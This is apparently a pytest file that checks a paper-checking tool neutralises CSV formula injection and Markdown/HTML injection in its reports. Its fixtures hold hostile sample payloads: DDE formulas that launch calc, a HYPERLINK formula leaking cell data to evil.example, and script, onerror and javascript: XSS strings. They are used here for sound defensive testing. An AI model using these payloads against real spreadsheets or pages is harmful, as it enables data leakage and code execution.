"""Issue 66, item 2: reports safe to open anywhere, one escaping rule per format used by every writer.

``report.csv`` wrote a claim's source, statement and summary as they were (``=cmd|' /C calc'!A0``, ``=HYPERLINK(...)``,
``@SUM(...)``, ``+cmd``: OWASP's CSV injection, run by a spreadsheet that opens the file); a newline in a paper's
title or a claim's source started a heading in ``report.md``; raw HTML passed into ``report.md`` and
``_repr_markdown_``. A claims file of hostile text is run and its report opened here as a spreadsheet and a Markdown
renderer would read it."""
from __future__ import annotations

import csv
import io
import re
import textwrap

import pytest

from paper_checks.files import FORMULA_START, csv_cell, records_csv
from paper_checks.report.escaping import md_code, md_fence, md_text

FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1", "\uff1d1+1"]
#: a link's text closed by an unescaped ``]`` before its target
LINK = re.compile(r"(?<!\\)\]\(javascript:")
HOSTILE = "Line one\n# Owned heading\n<script>alert(1)</script> <img src=x onerror=alert(2)> [x](javascript:alert(3))"

CLAIMS = textwrap.dedent('''
    from paper_checks.api import Evidence, claim, paper

    PAPER = paper("hostile", authors="A. B", year=2021, title={title!r}, venue="x", source="hostile.txt")

    @claim("hostile.a", source={source!r}, statement={statement!r}, expected="confirmed", method="exact")
    def a(ctx):
        return Evidence("confirmed", "exact", {summary!r}, condition=None)
    ''')


@pytest.fixture
def written(tmp_path, isolated_registry):
    """The report of the hostile claims file (md, csv, html); its claim and paper forgotten after the test."""
    from paper_checks import api

    d = tmp_path
    mod = d / "hostile_claims.py"
    mod.write_text(CLAIMS.format(title="A title\n# Owned <b onmouseover=alert(4)>x</b>", source=f"sec. 1\n{HOSTILE}",
                                 statement=FORMULAS[0] + " " + HOSTILE, summary=FORMULAS[1]))
    results = api.run(["hostile.a"], modules=[str(mod)], precision="quick", memory=None)
    api.write_report(results, d / "out", ["md", "csv", "html"], modules=[str(mod)])
    return d / "out"


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_is_neutralised(text):
    cell = csv_cell(text)
    assert cell.startswith("\"'") and cell.endswith('"'), cell  # a leading ' and the cell quoted, as OWASP says
    row = next(csv.reader(io.StringIO(cell)))
    assert row == ["'" + text]  # read back: the text as written, behind the '


def test_numbers_and_plain_text_are_written_as_they_are():
    assert [csv_cell(v) for v in (-0.5, 3, -7, None, True, "plain text", "a, b")] == \
        ["-0.5", "3", "-7", "", "True", "plain text", '"a, b"']
    assert records_csv([{"x": "=1+1", "y": 2}]) == 'x,y\n"\'=1+1",2\n'


def test_report_csv_runs_nothing(written):
    rows = list(csv.DictReader(io.StringIO((written / "report.csv").read_text())))
    assert rows and all(not str(v).lstrip(" ").startswith(FORMULA_START) for r in rows for v in r.values()), rows
    assert rows[0]["statement"].startswith("'=cmd|") and rows[0]["summary"].startswith("'=HYPERLINK(")


def test_report_md_has_no_heading_html_or_link_from_data(written):
    md = (written / "report.md").read_text()
    assert "Owned" in md
    headings = [line for line in md.splitlines() if line.lstrip().startswith("#")]
    assert not any("Owned" in h for h in headings), headings  # before: "# Owned heading" was a heading
    assert not re.search(r"<(script|img|b)\b", md), "raw HTML from data"
    assert not LINK.search(md)


def test_report_html_escapes_everything(written):
    page = (written / "report.html").read_text()
    assert "<script>alert" not in page and "<img src=x" not in page and "&lt;script&gt;" in page


def test_notebook_markdown_escapes_the_evidence():
    from paper_checks.api import Evidence

    md = Evidence("confirmed", "exact", HOSTILE, condition=None)._repr_markdown_()
    assert not re.search(r"<(script|img)\b", md) and "\n# Owned" not in md and not LINK.search(md)


def test_the_markdown_rule():
    assert md_text("a\nb\r\nc\u2028d") == "a b c d"
    assert md_text("# heading") == "\\# heading" and md_text("x <= 1 & y > 2") == "x <= 1 & y > 2"
    assert md_text("<a href=x>") == "&lt;a href=x>" and md_text("&lt;") == "&amp;lt;"
    assert md_text("[Zhang & Sabuncu 2018], sec. 2") == "[Zhang & Sabuncu 2018], sec. 2"  # a tag stays readable
    assert md_text("![t](http://x)") == "![t\\](http://x)" and md_text("a|b*c`d") == "a\\|b\\*c\\`d"
    assert md_code("a`b") == "``a`b``" and md_fence("```\nx")[0] == "````"
